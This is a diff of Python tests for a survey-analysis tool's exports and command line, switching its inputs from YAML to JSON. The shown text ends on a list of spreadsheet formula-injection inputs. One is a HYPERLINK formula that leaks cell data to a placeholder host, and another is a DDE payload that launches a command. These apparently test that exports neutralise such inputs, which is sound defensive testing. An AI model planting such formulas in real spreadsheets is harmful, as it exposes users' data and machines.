@@ -1,5 +1,6 @@
 """Exports: CSV with BOM, formatted XLSX, SPSS/Stata with labels, the report and the command line."""
 
+import json
 import pathlib
 import subprocess
 import sys
@@ -95,17 +96,51 @@ def test_report_on_open_link_wave_says_unweighted(tmp_path, sipas):
     assert "Estimates are unweighted" in (tmp_path / "index.html").read_text(encoding="utf-8")
 
 
+def write_json(path: pathlib.Path, document: dict) -> pathlib.Path:
+    """Write a document as the app exports it (JSON) and return the path."""
+    path.write_text(json.dumps(document, ensure_ascii=False, sort_keys=True), encoding="utf-8")
+    return path
+
+
 def test_command_line_runs_on_a_csv(tmp_path, sipas):
-    """python -m analysis reads the CSVs and YAML files and writes index.html."""
+    """python -m analysis reads the CSVs and the JSON documents and writes index.html."""
     sipas[0].to_csv(tmp_path / "r.csv", index=False)
     sipas[1].to_csv(tmp_path / "s.csv", index=False)
+    questionnaire = write_json(tmp_path / "q.json", load("sipas-service.yaml"))
+    framework = write_json(tmp_path / "f.json", load("frameworks/sipas-2023.yaml"))
     cmd = [sys.executable, "-m", "analysis", "--responses", str(tmp_path / "r.csv"), "--strata",
-           str(tmp_path / "s.csv"), "--questionnaire", str(ROOT / "questionnaires/sipas-service.yaml"),
-           "--framework", str(ROOT / "questionnaires/frameworks/sipas-2023.yaml"),
+           str(tmp_path / "s.csv"), "--questionnaire", str(questionnaire), "--framework", str(framework),
            "--out", str(tmp_path / "o")]
     result = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, check=False)
     assert result.returncode == 0, result.stderr
     assert (tmp_path / "o" / "index.html").is_file()
+
+
+def test_command_line_runs_on_an_export_folder(tmp_path, sipas):
+    """python -m analysis --export DIR tells questionnaires from frameworks by their kind."""
+    sipas[0].to_csv(tmp_path / "responses.csv", index=False)
+    sipas[1].to_csv(tmp_path / "strata.csv", index=False)
+    write_json(tmp_path / "sipas-service.json", load("sipas-service.yaml"))
+    write_json(tmp_path / "sipas-2023.json", load("frameworks/sipas-2023.yaml"))
+    write_json(tmp_path / "versions.json", {"wave": "2025", "documents": [], "notes": []})
+    result = subprocess.run([sys.executable, "-m", "analysis", "--export", str(tmp_path), "--out",
+                             str(tmp_path / "o")], cwd=ROOT, capture_output=True, text=True, check=False)
+    assert result.returncode == 0, result.stderr
+    assert list((tmp_path / "o").glob("sipas_*.csv"))
+
+
+def test_command_line_refuses_yaml(tmp_path, sipas):
+    """A YAML file is refused in one line: the app is the one reader of YAML."""
+    sipas[0].to_csv(tmp_path / "r.csv", index=False)
+    cmd = [sys.executable, "-m", "analysis", "--responses", str(tmp_path / "r.csv"),
+           "--questionnaire", str(ROOT / "questionnaires/sipas-service.yaml"),
+           "--framework", str(ROOT / "questionnaires/frameworks/sipas-2023.yaml"),
+           "--out", str(tmp_path / "o")]
+    result = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, check=False)
+    assert result.returncode == 2
+    assert result.stderr.strip().endswith("YAML is not read here; validate and export it with the app "
+                                          "(flask --app survey analysis export) and pass the .json documents")
+    assert not (tmp_path / "o").exists()
 
 
 INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+1+cmd|' /C calc'!A0", "-2+3",
